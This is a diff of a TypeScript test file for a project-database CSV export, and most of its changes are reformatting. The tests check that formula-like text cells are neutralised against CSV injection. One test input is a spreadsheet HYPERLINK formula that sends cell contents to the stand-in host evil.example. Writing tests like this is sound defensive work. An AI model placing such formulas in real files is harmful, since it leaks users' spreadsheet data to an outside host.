@@ -7,12 +7,20 @@ import { planCsvImport, type CsvReference, type StoredProject } from '@/lib/impo
 // CSV export and formula injection (OWASP "CSV injection", ASVS 5.0 1.2.10): a text cell that a spreadsheet would
 // read as a formula starts with a single quote; numbers stay numbers; the import reads the export back unchanged.
 const record = (over: Partial<ProjectRecord>): ProjectRecord => ({
-  code: 'ZF.0001', primaId: 'ZF10P0001', title: { en: 'A title', fr: 'Un titre' },
+  code: 'ZF.0001',
+  primaId: 'ZF10P0001',
+  title: { en: 'A title', fr: 'Un titre' },
   summary: { en: 'A summary', fr: null },
   region: { slug: 'africa', nameEn: 'Africa', nameFr: 'Afrique' },
   type: { slug: 'labour-migration', nameEn: 'Labour migration', nameFr: 'Migration de main-d’œuvre' },
-  status: 'active', coverage: 'national', budgetUsd: '100000.00', startYear: 2021, endYear: 2024, fundingYear: 2020,
-  updatedAt: '2026-11-01T10:00:00.000Z', countries: [{ code: 'SN', nameEn: 'Senegal', nameFr: 'Sénégal' }],
+  status: 'active',
+  coverage: 'national',
+  budgetUsd: '100000.00',
+  startYear: 2021,
+  endYear: 2024,
+  fundingYear: 2020,
+  updatedAt: '2026-11-01T10:00:00.000Z',
+  countries: [{ code: 'SN', nameEn: 'Senegal', nameFr: 'Sénégal' }],
   ...over,
 });
 const rows = (csv: string) => parse(csv, { bom: true, columns: true }) as Record<string, string>[];
@@ -21,10 +29,18 @@ const HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '+1+1', '-2+
 
 describe('projectsToCsv and formula injection', () => {
   it('prefixes every text cell a spreadsheet would run with a single quote', () => {
-    const csv = projectsToCsv(HOSTILE.map((text, i) => record({
-      code: `ZF.000${i}`, title: { en: text, fr: null }, summary: { en: text, fr: null },
-      type: { slug: 't', nameEn: text, nameFr: text }, region: { slug: 'r', nameEn: text, nameFr: text },
-    })), 'en');
+    const csv = projectsToCsv(
+      HOSTILE.map((text, i) =>
+        record({
+          code: `ZF.000${i}`,
+          title: { en: text, fr: null },
+          summary: { en: text, fr: null },
+          type: { slug: 't', nameEn: text, nameFr: text },
+          region: { slug: 'r', nameEn: text, nameFr: text },
+        }),
+      ),
+      'en',
+    );
     for (const [i, row] of rows(csv).entries()) {
       const text = HOSTILE[i]!;
       // Titles and summaries are shown trimmed (so "\t=1+1" is exported as "'=1+1"); names as they are.
@@ -53,18 +69,41 @@ describe('projectsToCsv and formula injection', () => {
       countries: [{ code: 'SN', nameEn: 'Senegal', nameFr: 'Sénégal' }],
     };
     const titles = [...HOSTILE, "'=quoted", "''@twice", "'plain", "'"];
-    const records = titles.map((title, i) => record({
-      code: `ZF.000${i}`, primaId: `ZF10P000${i}`, title: { en: title, fr: null }, summary: { en: title, fr: null },
-    }));
-    const stored = new Map<string, StoredProject>(records.map((p) => [p.code, {
-      version: 1,
-      snapshot: {
-        code: p.code, primaId: p.primaId, titleEn: p.title.en, titleFr: null, summaryEn: p.summary.en, summaryFr: null,
-        status: p.status, coverage: p.coverage, type: p.type.slug, region: p.region.slug, budgetUsd: p.budgetUsd,
-        startYear: p.startYear, endYear: p.endYear, fundingYear: p.fundingYear, sourceUrl: null, countries: ['SN'],
-        publicationState: 'published',
-      },
-    }]));
+    const records = titles.map((title, i) =>
+      record({
+        code: `ZF.000${i}`,
+        primaId: `ZF10P000${i}`,
+        title: { en: title, fr: null },
+        summary: { en: title, fr: null },
+      }),
+    );
+    const stored = new Map<string, StoredProject>(
+      records.map((p) => [
+        p.code,
+        {
+          version: 1,
+          snapshot: {
+            code: p.code,
+            primaId: p.primaId,
+            titleEn: p.title.en,
+            titleFr: null,
+            summaryEn: p.summary.en,
+            summaryFr: null,
+            status: p.status,
+            coverage: p.coverage,
+            type: p.type.slug,
+            region: p.region.slug,
+            budgetUsd: p.budgetUsd,
+            startYear: p.startYear,
+            endYear: p.endYear,
+            fundingYear: p.fundingYear,
+            sourceUrl: null,
+            countries: ['SN'],
+            publicationState: 'published',
+          },
+        },
+      ]),
+    );
     const plan = planCsvImport(projectsToCsv(records, 'en'), ref, stored);
     expect(plan.ok && plan.rows.map((r) => r.kind)).toEqual(titles.map(() => 'unchanged'));
   });
